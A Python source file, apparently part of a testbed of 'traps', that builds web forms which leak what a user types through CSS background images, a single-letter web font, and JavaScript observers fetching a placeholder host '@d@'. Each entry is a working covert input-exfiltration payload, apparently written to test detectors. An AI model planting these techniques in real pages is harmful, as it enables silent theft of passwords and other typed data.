"""Forms whose style sheets, fonts and watchers send what somebody typed, without a handler of an event."""

from testbed.traps.trap import Trap, form, trap

_MIRROR = "document.addEventListener('input',e=>e.target.setAttribute('data-v',e.target.value),true)"

_BY_STYLE = {
    "styleattribute": (
        "[data-v^='1']{background:url('@d@?v=1')}",
        _MIRROR,
        "a style sheet shows a picture for each value that a field may have",
    ),
    "stylevalid": (
        "input:not(:placeholder-shown){background:url('@d@?filled')}",
        "for(const e of document.querySelectorAll('input'))e.placeholder=' '",
        "a style sheet shows a picture once a field is not empty",
    ),
    "stylehas": (
        "form:has(input:user-valid){background:url('@d@?valid')}",
        "for(const e of f.elements)e.required=true",
        "a style sheet shows a picture once a field was filled in",
    ),
    "stylefocus": ("input:focus{background:url('@d@?focus')}", "", "a style sheet shows a picture where the focus is"),
    "stylefont": (
        "@font-face{font-family:x;src:url('@d@?v=1');unicode-range:U+31}#o0,#o1,#o2,output{font-family:x}",
        "document.addEventListener('input',e=>{const o=document.createElement('output');o.textContent=e.target.value;f.append(o)},true)",
        "a font for one letter alone tells that this letter was typed",
    ),
    "stylecontainer": (
        "form{container-type:inline-size}output{background:url('@d@?v')}",
        "document.addEventListener('input',()=>f.append(document.createElement('output')),true)",
        "a style sheet shows a picture for an element that typing brings",
    ),
}

_WATCHED = {
    "watchmutation": (
        f"{_MIRROR};new MutationObserver(r=>fetch('@d@?v='+r[0].target.dataset.v)).observe(f,{{subtree:true,attributes:true,attributeFilter:['data-v']}})",
        "a watcher of attributes sends what a script put there",
    ),
    "watchresize": (
        "const s=document.createElement('span');s.style.display='inline-block';f.append(s);document.addEventListener('input',e=>s.textContent+=e.target.value,true);"
        "let n=0;new ResizeObserver(()=>n++&&fetch('@d@?v='+s.textContent)).observe(s)",
        "a watcher of sizes sends what makes a text wider",
    ),
    "watchintersection": (
        "const s=document.createElement('p');s.hidden=true;s.textContent='x';f.prepend(s);document.addEventListener('input',()=>s.hidden=false,true);"
        "new IntersectionObserver(e=>e[0].isIntersecting&&fetch('@d@?seen')).observe(s)",
        "a watcher of what is in sight sends once typing shows something",
    ),
    "watchanimation": (
        "const s=document.createElement('style');s.textContent='@keyframes k{to{opacity:.9}}input:focus{animation:k 10ms}';document.head.append(s);"
        "document.addEventListener('animationstart',()=>fetch('@d@?focus'))",
        "the start of an animation that the focus sets off sends",
    ),
    "watchperformance": (
        "new PerformanceObserver(r=>r.getEntries().some(e=>e.name==='keydown')&&fetch('@d@?slow')).observe({type:'event',durationThreshold:16});"
        "document.addEventListener('keydown',()=>{const t=performance.now();while(performance.now()-t<60);},true)",
        "a watcher of slow events sends when a key was slow",
    ),
}

TRAPS: tuple[Trap, ...] = (
    *(
        trap(name, does, form(head=f"<style>{css}</style>", script=script))
        for name, (css, script, does) in _BY_STYLE.items()
    ),
    *(trap(name, does, form(script=script)) for name, (script, does) in _WATCHED.items()),
)
